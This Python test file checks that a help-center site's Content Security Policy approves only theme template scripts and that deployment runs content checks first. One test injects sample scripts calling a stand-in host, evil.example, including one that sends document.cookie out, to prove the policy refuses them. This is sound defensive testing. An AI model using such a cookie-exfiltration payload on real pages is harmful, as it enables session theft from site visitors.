"""The Content Security Policy approves only the theme's own inline scripts (issue 13).

A `<script>` in page content that got past the content checks must not be
hashed into the policy: the browser then refuses it, and the build names it.
"""

from __future__ import annotations

import re
from pathlib import Path

import yaml

from conftest import ROOT
from helpcenter.postbuild import csp


def _built(site_dir: Path, rel: str) -> str:
    return (site_dir / rel).read_text(encoding="utf-8")


def test_every_inline_script_of_the_built_site_comes_from_a_template(site_dir):
    for page in sorted(site_dir.rglob("*.html")):
        hashes, refused = csp.inline_script_hashes(page.read_text(encoding="utf-8"))
        assert refused == [], page
        assert hashes, page  # Material's own scripts are still approved


def test_a_content_script_is_not_approved(site_dir):
    html = _built(site_dir, "en/faq.html")
    template_hashes, _ = csp.inline_script_hashes(html)
    injected = html.replace("</article>", "<script>fetch('https://evil.example/?c='+document.cookie)</script>"
                                          "</article>", 1)
    hashes, refused = csp.inline_script_hashes(injected)
    assert refused == ["fetch('https://evil.example/?c='+document.cookie)"]
    assert hashes == template_hashes
    # A copy of a template script with code where its Jinja value goes is not the template's script either.
    scope = re.search(r'<script>(__md_scope=new URL\("[^"]*",location\).*?)</script>', html, re.S).group(1)
    forged = scope.replace('new URL("', 'new URL("x"+fetch("https://evil.example/")+"', 1)
    assert csp.inline_script_hashes(html.replace(scope, forged))[1] == [forged]


def test_the_built_policy_names_only_template_hashes(site_dir):
    html = _built(site_dir, "contact/compose.html")
    meta = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)"', html).group(1)
    listed = set(re.findall(r"'sha256-[^']+'", meta))
    assert listed == set(csp.inline_script_hashes(html)[0])


def test_deploy_runs_the_content_checks_before_it_publishes():
    workflow = yaml.safe_load((ROOT / ".github" / "workflows" / "deploy.yml").read_text(encoding="utf-8"))
    steps = [step.get("run", "") or step.get("uses", "") for step in workflow["jobs"]["build"]["steps"]]
    assert "scripts/check --release" in steps and "scripts/build" in steps  # --release: site_url too
    assert steps.index("scripts/check --release") < steps.index("scripts/build")
    assert workflow["jobs"]["deploy"]["needs"] == "build"
